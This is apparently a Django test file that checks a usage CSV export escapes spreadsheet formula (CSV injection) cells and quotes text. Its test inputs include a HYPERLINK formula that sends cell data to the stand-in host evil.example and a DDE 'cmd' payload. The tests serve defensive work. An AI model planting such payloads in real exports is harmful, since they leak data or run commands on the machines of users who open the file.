"""The usage CSV export cannot carry a formula into a spreadsheet (CSV injection, as OWASP describes
it): a text cell that begins with =, +, -, @, a tab or a carriage return gets a single quote in
front, so Excel, LibreOffice and Google Sheets show it as text; every text
cell is quoted; the byte counts stay bare numbers."""

import csv
import datetime as dt
import io

import pytest
import time_machine
from django.urls import reverse

from esimdash.units import MB
from tests.factories import TOKYO, make_line, use
from usage.models import Device

# The expected rows are written in Tokyo time: the line lives there whatever zone the run gives test users.
pytestmark = [pytest.mark.django_db, pytest.mark.calendar(time_zone="Asia/Tokyo")]

NOW = dt.datetime(2026, 11, 20, 12, 30, tzinfo=TOKYO)


def export(client, owner, *, device_name: str, source: str, external_id: str) -> str:
    with time_machine.travel(NOW, tick=False):
        phone = Device.objects.create(owner=owner, kind=Device.Kind.PHONE, name=device_name)
        line = make_line(owner, activated_at=NOW - dt.timedelta(days=10))
        use(
            line,
            5 * MB,
            NOW - dt.timedelta(hours=1),
            device_id=phone.pk,
            source=source,
            external_id=external_id,
        )
        client.force_login(owner)
        response = client.get(reverse("usage:line_export", args=[line.pk]) + "?range=48h")
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode()


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_would_start_a_formula_is_escaped_and_quoted(client, owner, trigger):
    device_name = f'{trigger}HYPERLINK("https://evil.example/?"&A1,"Phone")'
    source = f"{trigger}cmd|' /C calc'!A0"
    external_id = f"{trigger}2+5"

    text = export(client, owner, device_name=device_name, source=source, external_id=external_id)

    quoted_name = device_name.replace('"', '""')
    assert text.split("\r\n")[1] == (
        '"2026-11-20T11:30:00+09:00","2026-11-20T11:40:00+09:00",'
        f'"\'{quoted_name}","browsing","JP","440-10","false","false",0,5000000,'
        f'"\'{source}","\'{trigger}2+5"'
    )
    (row,) = list(csv.DictReader(io.StringIO(text, newline="")))
    assert (row["device"], row["source"], row["external_id"]) == (
        f"'{device_name}",
        f"'{source}",
        f"'{external_id}",
    )


def test_ordinary_text_is_quoted_but_unchanged(client, owner):
    """Quoted, so a spreadsheet that splits on semicolons cannot make `=1+1` a cell of its own."""
    text = export(client, owner, device_name="Ming's phone", source="carrier-feed", external_id="a;=1+1")
    assert text.split("\r\n") == [
        '"period_start","period_end","device","app_category","country","network","background",'
        '"tethered","bytes_up","bytes_down","source","external_id"',
        '"2026-11-20T11:30:00+09:00","2026-11-20T11:40:00+09:00","Ming\'s phone","browsing","JP",'
        '"440-10","false","false",0,5000000,"carrier-feed","a;=1+1"',
        "",
    ]
